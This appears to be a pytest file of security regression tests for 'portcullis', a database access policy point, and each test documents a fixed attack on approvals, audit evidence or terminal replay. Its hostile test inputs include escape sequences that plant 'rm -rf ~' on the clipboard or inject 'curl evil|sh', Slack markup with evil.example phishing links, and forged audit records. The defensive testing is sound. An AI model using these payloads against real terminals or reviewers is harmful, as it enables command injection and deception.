"""Attacks on the PDP's API, its evidence and its approvals (second probe).

Each test drives real components: the PDP over gRPC (tests/pdp_harness.py), its real
audit store (sqlite), the `portcullis` CLI in a subprocess where an auditor would use it.
"""

from __future__ import annotations

import asyncio
import time

import grpc
import pytest
from pdp_harness import (
    decide_sql,
    open_session,
    pdp_config,
    pdp_stub,
    replay_on_a_terminal,
    running_pdp,
    token,
)

from portcullis.v1 import pdp_pb2

# contractors get sessions only through a just-in-time grant of GRANT_SECONDS
GRANT_SECONDS = 2
JIT_POLICY = f"""package portcullis

decision := {{"verdict": "require_approval", "reasons": ["contractors need a grant"],
             "approval": {{"approvers": ["group:security"], "ttl_seconds": {GRANT_SECONDS}}}}} if {{
  input.command.kind == "session.open"
  not input.approval
}}

decision := {{"verdict": "allow", "reasons": ["granted"]}} if {{
  input.command.kind == "session.open"
  input.approval.state == "approved"
  input.approval.approver != input.identity.subject
}}

decision := {{"verdict": "allow", "reasons": ["reads"]}} if input.command.kind == "postgres.query"

approvers := {{"allowed": true, "reasons": ["security"]}} if {{
  "security" in input.approver.groups
  lower(input.approver.subject) != lower(input.request.requester.subject)
}} else := {{"allowed": false, "reasons": ["not an approver"]}}
"""

SAM = {"subject": "sam@example.com", "groups": ["security"], "issuer": "portcullis-dev"}


def _jit_config(tmp_path):
    policies = tmp_path / "jit"
    policies.mkdir(exist_ok=True)
    (policies / "policy.rego").write_text(JIT_POLICY)
    engine = {"type": "embedded", "policies": str(policies), "workers": 1, "timeout_ms": 2000}
    return pdp_config(tmp_path, engine=engine)


async def test_a_just_in_time_grant_still_ends_after_the_pdp_restarts(tmp_path):
    """Attack (contractor with a granted session): the grant's end lived only in the PDP's
    memory. The session.open record kept grant_expires_at 0 and Session.from_record did
    not read it, so once the PDP restarted (or another replica, or an evicted session,
    found the session in the store) the session ran on with no end: statements were
    allowed long after the grant ran out. Now the record holds the grant's end and a
    session found in the store keeps it."""
    from pdp.domain.identity import DevIssuer

    config = _jit_config(tmp_path)
    token = DevIssuer(config.identity).issue("carl@example.com", ["contractors"], 3600)
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        asked = await open_session(stub, token)
        assert asked.decision.verdict == pdp_pb2.REQUIRE_APPROVAL
        await pdp.approvals.decide(asked.decision.approval_id, SAM, True, "on-call fix")
        granted = await open_session(stub, token)
        assert granted.decision.verdict == pdp_pb2.ALLOW and granted.session_id
        ends = granted.session_expires_at
        assert ends > 0
        recorded = await pdp.store.query(kind="session.open", session_id=granted.session_id)
        allowed = [r for r in recorded if r.body.get("verdict") == "allow"]
        assert allowed[0].body["session"]["grant_expires_at"] == pytest.approx(ends)
        session_id = granted.session_id
    while time.time() <= ends + 0.2:  # the grant runs out while the PDP is down
        await asyncio.sleep(0.2)
    async with running_pdp(_jit_config(tmp_path)) as pdp, pdp_stub(pdp.address) as stub:
        with pytest.raises(grpc.aio.AioRpcError) as ended:
            await stub.Decide(
                pdp_pb2.DecideRequest(
                    session_id=session_id,
                    command=pdp_pb2.Command(kind="postgres.query", raw="SELECT 1"),
                )
            )
        assert ended.value.code() in (
            grpc.StatusCode.FAILED_PRECONDITION,
            grpc.StatusCode.PERMISSION_DENIED,
        )


# -- an auditor verifying evidence ------------------------------------------------------


async def _populated_sqlite(tmp_path):
    from test_evidence import make_env, populate

    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
    await populate(env)
    return env


async def test_a_stored_body_that_is_not_the_hashed_text_fails_verification(tmp_path):
    """Attack (database access, no key): a denied decision's stored body gets a leading
    "verdict":"allow" member. Python's parser keeps a duplicated key's last value, so the
    verifier re-encoded the hashed body and said OK; SQLite's json_extract keeps the first,
    so anything reading the store with SQL (an auditor's query, the PDP's own egress
    totals) read allow. Likewise other spacing or spellings of the same values. Now the
    stored text must be the canonical text that was hashed; and a body that cannot be
    hashed at all (NaN) is named as a bad record instead of crashing the verifier."""
    import sqlite3

    env = await _populated_sqlite(tmp_path)
    rows = await env.rows()
    denied = next(r for r in rows if r["kind"] == "decision" and '"verdict":"deny"' in r["body"])
    assert env.verify().returncode == 0
    forged = '{"verdict":"allow",' + denied["body"][1:]
    await env.tamper(("UPDATE audit_records SET body = ? WHERE seq = ?", (forged, denied["seq"])))
    db = sqlite3.connect(env.store.path)
    try:
        (seen,) = db.execute(
            "SELECT json_extract(body, '$.verdict') FROM audit_records WHERE seq = ?",
            (denied["seq"],),
        ).fetchone()
    finally:
        db.close()
    assert seen == "allow"  # what SQL reads of the record now
    result = env.verify()
    assert result.returncode == 1, result.stdout
    assert result.stdout.startswith(f"FAIL: record seq={denied['seq']} kind=decision")
    assert "not the canonical JSON" in result.stdout
    # a body no canonical JSON exists for: named, not a traceback
    await env.tamper(
        ("UPDATE audit_records SET body = ? WHERE seq = ?", ('{"x":NaN}', denied["seq"]))
    )
    result = env.verify()
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stdout.startswith(f"FAIL: record seq={denied['seq']} kind=decision")


async def test_verify_shows_a_tampered_kind_inert(tmp_path):
    """Attack (database access): a record's kind rewritten to terminal control sequences
    ('\\x1b[1A\\x1b[2K' moves up and erases the line, then prints 'OK: ...'). verify
    printed the kind as it was, so the auditor's terminal showed OK over the FAIL line.
    Now what verify prints of a record is made inert (pdp.plumbing.rendering)."""
    env = await _populated_sqlite(tmp_path)
    rows = await env.rows()
    target = next(r for r in rows if r["kind"] == "decision")
    forged = "\x1b[1A\x1b[2K\rOK: all records verified\u202e"
    await env.tamper(("UPDATE audit_records SET kind = ? WHERE seq = ?", (forged, target["seq"])))
    result = env.verify()
    assert result.returncode == 1
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout, repr(result.stdout)
    assert "\r" not in result.stdout
    assert "kind=\\x1b[1A\\x1b[2K\\rOK" in result.stdout


async def test_offline_verify_shows_a_crafted_member_name_inert(tmp_path):
    """Attack (whoever hands the auditor a bundle): an archive member named with control
    sequences. verify --bundle printed the name as it was ('... in the archive but not in
    manifest.json'), clearing the auditor's screen. Now it is shown inert."""
    from test_evidence import portcullis, read_tar, write_tar

    env = await _populated_sqlite(tmp_path)
    out = tmp_path / "evidence.tar.gz"
    assert (
        portcullis("-c", str(env.config_path), "audit", "export", "--out", str(out)).returncode == 0
    )
    files = read_tar(out)
    crafted = tmp_path / "crafted.tar.gz"
    write_tar(crafted, {**files, "\x1b[2J\x1b[HOK": b"x"})
    result = portcullis("audit", "verify", "--bundle", str(crafted))
    assert result.returncode == 1
    assert "\x1b" not in result.stdout, repr(result.stdout)
    assert "\\x1b[2J\\x1b[HOK" in result.stdout


# -- approvals ---------------------------------------------------------------------------


async def test_a_reader_cannot_learn_another_identity_s_request_by_deciding_it(tmp_path):
    """Attack (reader token, gRPC ResolveApproval, the HTTP API or the console): deciding
    a request of someone else's answered "<you> is not one of group:security, group:dba"
    for a request that exists (and "no approval request" for one that does not), and
    "approval request a-... is already approved" once it was decided: any token holder
    learnt whether an id exists, who may approve it and how it was decided, for requests
    ListApprovals hides from them. Now a request the caller may neither decide nor owns
    is answered as one that does not exist, whatever its state."""
    config = pdp_config(tmp_path)
    alice = token(config, "alice@example.com", ("readonly",))
    bob = token(config, "bob@example.com", ("readonly",))
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, alice)
        asked = await decide_sql(stub, opened.session_id, "INSERT INTO orders VALUES (1)")
        assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL and asked.approval_id
        real, made_up = asked.approval_id, "a-0123456789abcdef"

        async def refusal(who: str, approval_id: str) -> str:
            with pytest.raises(grpc.aio.AioRpcError) as refused:
                await stub.ResolveApproval(
                    pdp_pb2.ResolveApprovalRequest(
                        token=who, approval_id=approval_id, approve=True, reason="favour"
                    )
                )
            assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
            return str(refused.value.details()).replace(approval_id, "ID")

        assert await refusal(bob, real) == await refusal(bob, made_up)
        await pdp.approvals.decide(real, SAM, True, "checked")
        assert await refusal(bob, real) == await refusal(bob, made_up)
        # the requester and an approver are still told what is so
        assert "own request" in await refusal(alice, real)
        sam = token(config, "sam@example.com", ("security",))
        assert "already approved" in await refusal(sam, real)


async def test_listing_approvals_again_does_not_ask_the_policy_again(tmp_path):
    """Attack (any token holder, no group needed): ListApprovals (and GET /v1/approvals,
    and the console inbox) asked the policy engine whether the caller may decide every
    request the PDP ever recorded, on every call: the book is never pruned, so a loop of
    listings kept the engine workers, which every Decide shares, busy with N evaluations
    a call. Now an answer is kept per caller, request and policy revision: listing again
    asks the engine nothing."""
    config = pdp_config(tmp_path)
    alice = token(config, "alice@example.com", ("readonly",))
    eve = token(config, "eve@example.com", ())
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, alice)
        for n in range(5):
            asked = await decide_sql(stub, opened.session_id, f"INSERT INTO orders VALUES ({n})")
            assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL
        engine = pdp.decider.engine
        asked_about: list[str] = []
        evaluate = engine.evaluate

        async def counted(policy_input, path=None, *args, **kwargs):
            asked_about.append(str(path))
            return await evaluate(policy_input, path, *args, **kwargs)

        engine.evaluate = counted  # type: ignore[method-assign]
        listing = pdp_pb2.ListApprovalsRequest(token=eve)
        assert not (await stub.ListApprovals(listing)).approvals
        assert asked_about.count("portcullis.approvers") == 5
        for _ in range(3):
            assert not (await stub.ListApprovals(listing)).approvals
        assert asked_about.count("portcullis.approvers") == 5


async def test_the_webhook_text_cannot_carry_chat_markup_from_the_requester(tmp_path):
    """Attack (reader, through any proxy): the approval webhook's `text` is Slack-compatible
    and carried the requester's command and justification with only control characters
    made inert. Chat markup went through as markup: '<!channel>' paged every approver and
    '<https://evil.example/|approve here>' showed as a link named 'approve here' next to
    the real approve command. Slack reads &, < and > as markup only unescaped; the notice
    now escapes them in everything it writes into `text` (the `approval` object is exact)."""
    from pdp_harness import free_port
    from test_approvals import webhook_at

    received: list[dict] = []
    port = free_port()
    config = pdp_config(
        tmp_path, approvals={"timeout_seconds": 60, "webhook": f"http://127.0.0.1:{port}/hook"}
    )
    sql = (
        "/* justification: <!channel> urgent & see <https://evil.example/|the runbook> */ "
        "INSERT INTO orders VALUES ('<@U123> <https://evil.example/|approve here> & more')"
    )
    async with (
        webhook_at(port, received),
        running_pdp(config) as pdp,
        pdp_stub(pdp.address) as stub,
    ):
        opened = await open_session(stub, token(config, "alice@example.com", ("readonly",)))
        asked = await decide_sql(stub, opened.session_id, sql)
        assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL
        while not received:
            await asyncio.sleep(0.05)
    text = received[0]["text"]
    assert asked.approval_id in text
    for markup in ("<!channel>", "<@U123>", "<https://", "& see"):
        assert markup not in text, text
    assert "&lt;!channel&gt; urgent &amp; see &lt;https://evil.example/|the runbook&gt;" in text
    assert received[0]["approval"]["justification"].startswith("<!channel>")


async def test_replaying_a_recorded_terminal_sends_the_auditor_s_terminal_display_only(tmp_path):
    """Attack (an SSH user, or the server they reach, writing to their own recorded
    terminal): `portcullis replay` plays a recorded shell on the auditor's terminal and
    wrote its output as recorded, control sequences and all. Among them those that act
    beyond the screen: OSC 52 sets the auditor's clipboard (a command to paste), OSC 8
    makes links, a title set then reported back (CSI 21 t) or a status report (CSI 6 n,
    device attributes CSI c) is typed by the terminal into the auditor's shell after the
    replay, DCS/APC strings reach the terminal's own handlers. Now the playback passes
    the display (text, SGR colours, cursor movement, erasing, scrolling, modes) and drops
    every string sequence and every sequence that makes the terminal answer."""
    from google.protobuf import struct_pb2
    from test_evidence import make_env

    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
    config = env.config
    hostile = (
        "\x1b[31mred\x1b[0m ok\r\n"
        "\x1b]52;c;cm0gLXJmIH4K\x07"  # clipboard: 'rm -rf ~'
        "\x1b]0;curl evil|sh\x07\x1b[21t"  # title, then report it back as input
        "\x1b[6n\x1b[c\x1b[>c\x1bZ"  # status and identity reports
        "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"  # hyperlink
        '\x1bP$q"p\x1b\\\x1b_apc\x1b\\\x9d52;c;eA==\x07'  # DCS, APC, C1 OSC
        "\x1b[2J\x1b[Hdone"
    )
    details = struct_pb2.Struct()
    details.update(
        {"kind": "ssh.asciicast", "channel": 0, "events": [[0.1, "o", hostile[:40]],
                                                           [0.2, "o", hostile[40:]]]}
    )  # fmt: skip
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, token(config))
        await stub.RecordEvents(
            pdp_pb2.RecordEventsRequest(
                session_id=opened.session_id,
                events=[
                    pdp_pb2.SessionEvent(
                        time=1.0, direction="upstream", type="response", details=details
                    )
                ],
            )
        )
        session_id = opened.session_id
    # played as a terminal draws it (--raw; by default every byte is shown as text)
    shown = await asyncio.to_thread(
        replay_on_a_terminal, env.config_path, session_id, None, "--raw"
    )
    played = shown.split(b"--- terminal, channel 0", 1)[1]
    assert b"\x1b[31mred\x1b[0m ok" in played and b"\x1b[2J\x1b[Hdone" in played
    for acting in (b"\x1b]", b"\xc2\x9d", b"\x1b[21t", b"\x1b[6n", b"\x1b[c", b"\x1b[>c",
                   b"\x1bZ", b"\x1bP", b"\x1b_", b"cm0gLXJmIH4K", b"curl evil"):  # fmt: skip
        assert acting not in played, (acting, played)


async def test_offline_verify_says_when_the_signer_is_not_pinned(tmp_path):
    """Attack (whoever hands the auditor a bundle): a bundle exported by another PDP (or
    made whole with a key of one's own) carries its own public key, and `audit verify
    --bundle` without --public-key checked it against that key and said OK, naming the
    key only in passing. It still verifies (the chain and signatures are sound), but the
    report now says the signer was not pinned; pinned to the real PDP's key it fails."""
    from test_evidence import portcullis

    (tmp_path / "real").mkdir()
    (tmp_path / "other").mkdir()
    real = await _populated_sqlite(tmp_path / "real")
    other = await _populated_sqlite(tmp_path / "other")
    out = tmp_path / "other.tar.gz"
    assert (
        portcullis("-c", str(other.config_path), "audit", "export", "--out", str(out)).returncode
        == 0
    )
    unpinned = portcullis("audit", "verify", "--bundle", str(out))
    assert unpinned.returncode == 0 and unpinned.stdout.startswith("OK: ")
    assert "NOT PINNED" in unpinned.stdout
    pem = tmp_path / "real.pem"
    from pdp.evidence.signing import public_pem
    from pdp.plumbing.keys import load_or_create_ed25519

    pem.write_bytes(public_pem(load_or_create_ed25519(real.config.pdp.signing_key).public_key()))
    pinned = portcullis("audit", "verify", "--bundle", str(out), "--public-key", str(pem))
    assert pinned.returncode == 1 and "not the pinned key" in pinned.stdout
    own = tmp_path / "real.tar.gz"
    assert (
        portcullis("-c", str(real.config_path), "audit", "export", "--out", str(own)).returncode
        == 0
    )
    trusted = portcullis("audit", "verify", "--bundle", str(own), "--public-key", str(pem))
    assert trusted.returncode == 0 and "NOT PINNED" not in trusted.stdout


async def test_only_the_requester_withdraws_a_request(tmp_path):
    """Attack (another identity whose subject differs only in case, which an IdP with
    case-sensitive subjects issues to another person): WithdrawApproval compared subjects
    case-insensitively and ignored the issuer, so ALICE@EXAMPLE.COM withdrew
    alice@example.com's pending request (and learnt which ids exist: 'only the requester
    may withdraw' against 'no approval request'), where ListApprovals rightly shows that
    identity none of alice's. Now only the requester's own subject and issuer withdraw,
    and anyone else is answered as for an id that does not exist."""
    config = pdp_config(tmp_path)
    alice = token(config, "alice@example.com", ("readonly",))
    shouted = token(config, "ALICE@EXAMPLE.COM", ("readonly",))
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, alice)
        asked = await decide_sql(stub, opened.session_id, "INSERT INTO orders VALUES (1)")
        real, made_up = asked.approval_id, "a-0123456789abcdef"

        async def refusal(approval_id: str) -> str:
            with pytest.raises(grpc.aio.AioRpcError) as refused:
                await stub.WithdrawApproval(
                    pdp_pb2.WithdrawApprovalRequest(token=shouted, approval_id=approval_id)
                )
            assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
            return str(refused.value.details()).replace(approval_id, "ID")

        assert await refusal(real) == await refusal(made_up)
        assert pdp.approvals.requests[real].state == "pending"
        withdrawn = await stub.WithdrawApproval(
            pdp_pb2.WithdrawApprovalRequest(token=alice, approval_id=real)
        )
        assert withdrawn.approval.state == "withdrawn"


async def test_a_granted_session_is_found_and_ended_at_another_replica(tmp_path, pg_database):
    """A just-in-time session opened at one replica, its next statement asked at another
    (the proxy's stream moved): the other replica found the session's first session.open
    record, the require_approval asked before the grant, and refused the session as not
    open; and had it found it, the grant's end was not read. Now the replica reads the
    record that opened the session and keeps the grant's end."""
    from pdp.domain.identity import DevIssuer

    store = {"type": "postgres", "dsn": pg_database}
    policies = tmp_path / "jit"
    policies.mkdir()
    (policies / "policy.rego").write_text(JIT_POLICY)
    engine = {"type": "embedded", "policies": str(policies), "workers": 1, "timeout_ms": 2000}
    first_config = pdp_config(tmp_path, store=store, engine=engine)
    second_config = pdp_config(tmp_path, store=store, engine=engine)
    carl = DevIssuer(first_config.identity).issue("carl@example.com", ["contractors"], 3600)
    select = pdp_pb2.Command(kind="postgres.query", raw="SELECT 1")
    async with running_pdp(second_config) as second:
        credential = second.issue_proxy_credential("proxy-a", ["orders-db"])
        async with running_pdp(first_config) as first, pdp_stub(first.address, credential) as a:
            asked = await open_session(a, carl)
            await first.approvals.decide(asked.decision.approval_id, SAM, True, "on call")
            granted = await open_session(a, carl)
            assert granted.decision.verdict == pdp_pb2.ALLOW
            ends = granted.session_expires_at
            async with pdp_stub(second.address, credential) as b:
                there = await b.Decide(
                    pdp_pb2.DecideRequest(session_id=granted.session_id, command=select)
                )
                assert there.decision.verdict == pdp_pb2.ALLOW
                while time.time() <= ends + 0.2:
                    await asyncio.sleep(0.2)
                with pytest.raises(grpc.aio.AioRpcError) as ended:
                    await b.Decide(
                        pdp_pb2.DecideRequest(session_id=granted.session_id, command=select)
                    )
                assert ended.value.code() == grpc.StatusCode.FAILED_PRECONDITION


async def test_large_requests_cannot_stop_approvers_listing_others(tmp_path):
    """Attack (reader, through any proxy): a few INSERTs of ~850 KB (a long column list:
    approvers see every statement in full, text and statements both) made requests whose
    listing exceeded gRPC's 4 MiB message limit, so every approver's ListApprovals (the
    CLI's `approvals list` and `approvals show ID` of any request) failed with
    RESOURCE_EXHAUSTED, for good: the book keeps decided requests. Now a listing holds
    what fits under the limit, pending requests first, then the newest: another
    identity's request is still listed, and the call succeeds."""
    # (each request is seconds of parsing: on a loaded VM the sessions fell silent past
    # the test default's 30 s and were closed, "session ... is not open")
    config = pdp_config(tmp_path, session_timeout=600)
    alice = token(config, "alice@example.com", ("readonly",))
    bob = token(config, "bob@example.com", ("readonly",))
    sam = token(config, "sam@example.com", ("security",))
    columns = ",".join(f"c{i}" for i in range(120_000))
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        hers = await open_session(stub, alice)
        for n in range(4):
            asked = await decide_sql(
                stub, hers.session_id, f"INSERT INTO orders ({columns}) SELECT {n}"
            )
            assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL
        his = await open_session(stub, bob)
        small = await decide_sql(stub, his.session_id, "INSERT INTO orders VALUES (7)")
        listed = await stub.ListApprovals(pdp_pb2.ListApprovalsRequest(token=sam))
        assert small.approval_id in {a.id for a in listed.approvals}
        assert listed.ByteSize() < 4 * 1024 * 1024


async def test_an_approval_binds_every_bound_value_not_the_first_256(tmp_path):
    """Attack (reader, extended protocol): an approval binds a statement's bound values,
    but the PDP kept only the first 256 of them (bound_parameters' cap) for the binding and
    the approver's view. 'UPDATE orders SET total = 0 WHERE id IN ($1, ..., $300)' approved
    with $300 = 5 was re-run within the approval's TTL with $300 = 1 (another customer's
    order, a value the approver never saw) as the same approved request. Now every value
    is bound (and shown): another value at $300 is a new request."""
    from google.protobuf import struct_pb2

    config = pdp_config(tmp_path)
    alice = token(config, "alice@example.com", ("readonly",))
    placeholders = ", ".join(f"${n}" for n in range(1, 301))
    sql = f"UPDATE orders SET total = 0 WHERE id IN ({placeholders})"

    def bound(last: str) -> pdp_pb2.Command:
        attributes = struct_pb2.Struct()
        attributes.update(
            {"protocol": "extended", "parameters": [str(n) for n in range(1000, 1299)] + [last]}
        )
        return pdp_pb2.Command(kind="postgres.query", raw=sql, attributes=attributes)

    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, alice)
        asked = await stub.Decide(pdp_pb2.DecideRequest(session_id=opened.session_id,
                                                        command=bound("5")))  # fmt: skip
        assert asked.decision.verdict == pdp_pb2.REQUIRE_APPROVAL
        approval_id = asked.decision.approval_id
        shown = pdp.approvals.requests[approval_id].parameters
        assert len(shown) == 300 and shown[-1] == "5"
        await pdp.approvals.decide(approval_id, SAM, True, "order 5 only")
        again = await stub.Decide(pdp_pb2.DecideRequest(session_id=opened.session_id,
                                                        command=bound("5")))  # fmt: skip
        assert again.decision.verdict == pdp_pb2.MASK  # approved; a reader's masks apply
        assert again.decision.approval_id == approval_id
        other = await stub.Decide(pdp_pb2.DecideRequest(session_id=opened.session_id,
                                                        command=bound("1")))  # fmt: skip
        assert other.decision.verdict == pdp_pb2.REQUIRE_APPROVAL
        assert other.decision.approval_id != approval_id


async def test_anonymous_calls_cannot_leave_a_proxy_s_forgery_unrecorded(tmp_path, monkeypatch):
    """Attack (a stolen proxy credential, and anyone who can reach the port): refused
    session calls are recorded at most RATE a second, and the budget was one for every
    caller, so a flood of calls with no credential at all used it up and a proxy's call
    about another proxy's session in the same second went unrecorded (only counted in the
    next record). Now each proxy's refusals have their own budget, and callers that are no
    proxy share one. (RATE is 1 here so that one anonymous call uses it up.)"""
    from pdp.api import service

    monkeypatch.setattr(service._RefusalBudget, "RATE", 1)
    config = pdp_config(tmp_path)
    async with running_pdp(config) as pdp:
        intruder = pdp.issue_proxy_credential("proxy-b", ["orders-db"])
        async with pdp_stub(pdp.address) as owner, pdp_stub(pdp.address, "") as nobody:
            opened = await open_session(owner, token(config))
            with pytest.raises(grpc.aio.AioRpcError):
                await open_session(nobody, token(config))
            async with pdp_stub(pdp.address, intruder) as forger:
                with pytest.raises(grpc.aio.AioRpcError) as refused:
                    await decide_sql(forger, opened.session_id, "SELECT 1")
            assert refused.value.code() == grpc.StatusCode.PERMISSION_DENIED
        recorded = await pdp.store.query(kind="proxy.refused")
        forgeries = [r for r in recorded if (r.body.get("proxy") or {}).get("name") == "proxy-b"]
        assert forgeries and forgeries[0].body["session_id"] == opened.session_id


async def test_rejected_logons_cannot_fill_the_audit_store(tmp_path, monkeypatch):
    """Attack (anyone who can reach a proxy's port, no token needed): every rejected
    logon was one durable auth.rejected record, so connection attempts with garbage
    tokens grew the store without bound (and its write backlog, past which every decision
    is a deny). Now at most RATE a second per connection are recorded, each counting the
    ones left out before it (`suppressed_before`). (RATE is 1 here.)"""
    from pdp.api import service

    monkeypatch.setattr(service._RefusalBudget, "RATE", 1)
    config = pdp_config(tmp_path)
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        for _ in range(8):
            with pytest.raises(grpc.aio.AioRpcError) as rejected:
                await open_session(stub, "not.a.token")
            assert rejected.value.code() == grpc.StatusCode.UNAUTHENTICATED
        recorded = await pdp.store.query(kind="auth.rejected")
    assert 1 <= len(recorded) < 8
    assert recorded[0].body["connection"] == "orders-db"


async def test_one_identity_cannot_flood_approvers_with_requests(tmp_path):
    """Attack (reader, through any proxy): every distinct command needing approval made a
    new request, with no bound: each held in memory by every PDP (text, approver's view
    and statements: three copies of up to a megabyte of SQL) and listed to approvers, so
    a loop of INSERTs grew every replica's memory and buried other people's requests.
    Now at most MAX_WAITING of one identity's requests wait at once; past it the command
    is denied (and the deny recorded), and other identities still ask."""
    from pdp.api import approval_rpc

    MAX_WAITING = getattr(approval_rpc, "MAX_WAITING", 16)
    config = pdp_config(tmp_path)
    alice = token(config, "alice@example.com", ("readonly",))
    bob = token(config, "bob@example.com", ("readonly",))
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        hers = await open_session(stub, alice)
        for n in range(MAX_WAITING):
            asked = await decide_sql(stub, hers.session_id, f"INSERT INTO orders VALUES ({n})")
            assert asked.verdict == pdp_pb2.REQUIRE_APPROVAL
        again = await decide_sql(stub, hers.session_id, "INSERT INTO orders VALUES (0)")
        assert again.verdict == pdp_pb2.REQUIRE_APPROVAL  # the same request, still waiting
        flood = await decide_sql(stub, hers.session_id, "INSERT INTO orders VALUES (99)")
        assert flood.verdict == pdp_pb2.DENY and not flood.approval_id
        assert "waiting for a person" in flood.reasons[0]
        assert len(pdp.approvals.requests) == MAX_WAITING
        unenforced = await pdp.store.query(kind="decision.unenforced")
        assert any(r.body["decision_id"] == flood.decision_id for r in unenforced)
        his = await open_session(stub, bob)
        other = await decide_sql(stub, his.session_id, "INSERT INTO orders VALUES (99)")
        assert other.verdict == pdp_pb2.REQUIRE_APPROVAL


def test_discover_shows_names_from_the_database_inert(tmp_path, capsys):
    """Attack (anyone who may create a table or column in the database, e.g. the app's
    own role): `portcullis discover` printed the evidence for each proposed column with
    its table and column names as the database holds them, so a column named with control
    sequences ('\\x1b]52;c;...\\x07' sets the operator's clipboard) acted on the
    operator's terminal. Now the evidence lines are made inert (the proposed diff was
    JSON-escaped already)."""
    import shutil

    from pdp_harness import REGO
    from pg_harness import scratch_database
    from test_discover import orders_db_config

    from pdp.cli import main

    schema = (
        'CREATE TABLE "t\x1b]52;c;cm0gLXJmIH4K\x07" ("contact\x1b[2J" text);'
        " INSERT INTO \"t\x1b]52;c;cm0gLXJmIH4K\x07\" SELECT 'p' || g || '@example.com'"
        " FROM generate_series(1, 20) g;"
    )
    data = tmp_path / "data.json"
    shutil.copy(REGO / "data.json", data)
    with scratch_database(schema) as (name, role, password):
        config = orders_db_config(tmp_path, name, role, password)
        code = main(["-c", str(config), "discover", "--connection", "orders-db",
                     "--data", str(data)])  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0 and "detector email" in out
    assert "\x1b" not in out and "\x07" not in out, repr(out)
    assert "\\x1b]52" in out


async def test_policy_diff_shows_recorded_commands_inert(tmp_path):
    """Attack (reader, through any proxy): `portcullis policy diff` prints an example of
    each changed decision with its recorded command, spaces collapsed but control
    sequences kept, so a reader's "SELECT '\\x1b]52;c;...\\x07'" set the clipboard of the
    operator trying a policy change (a candidate rule's reason, which may quote the
    command or a table name, likewise). Now every line about a recorded decision is
    made inert."""
    from test_evidence import make_env, portcullis

    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
    config = env.config
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, token(config))
        await decide_sql(stub, opened.session_id, "SELECT '\x1b]52;c;cm0gLXJmIH4K\x07\u202e'")
    candidate = tmp_path / "candidate"
    candidate.mkdir()
    (candidate / "policy.rego").write_text(
        'package portcullis\n\ndecision := {"verdict": "deny", '
        '"reasons": [sprintf("no: %s", [input.command.raw])]}\n'
    )
    result = portcullis("-c", str(env.config_path), "policy", "diff", "--policies", str(candidate))
    assert result.returncode == 1, result.stderr  # something would change
    assert "e.g." in result.stdout and "\n\n       1  mask -> deny" in result.stdout
    for acting in ("\x1b", "\x07", "\u202e"):
        assert acting not in result.stdout, repr(result.stdout)
    assert "\\x1b]52" in result.stdout


async def test_the_console_inbox_stream_does_not_read_every_request_each_tick(tmp_path):
    """Attack (any person who can sign in to the console): each open approvals stream
    compared, every second, a signature made by sorting every request the book ever held
    (it is never pruned), and anyone may open as many streams as they like, all on the
    event loop that answers every decision. Now the signature is the book's version (moved
    on by each request added, decided or executed), read without touching the requests."""
    from pdp.console.app import Console
    from pdp.console.settings import ConsoleSettings
    from pdp.console.views.approvals import Inbox

    config = pdp_config(tmp_path)
    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
        opened = await open_session(stub, token(config))
        for n in range(3):
            await decide_sql(stub, opened.session_id, f"INSERT INTO orders VALUES ({n})")
        inbox = Inbox(Console(pdp, ConsoleSettings(public_url="http://127.0.0.1:1")))
        reads: list[int] = []

        class Counted(dict):
            def values(self):  # type: ignore[override]
                reads.append(1)
                return super().values()

        pdp.approvals.requests = Counted(pdp.approvals.requests)
        before = inbox._signature()
        assert inbox._signature() == before and not reads
        first = next(iter(dict.values(pdp.approvals.requests)))
        await pdp.approvals.decide(first.id, SAM, False, "no")
        assert inbox._signature() != before
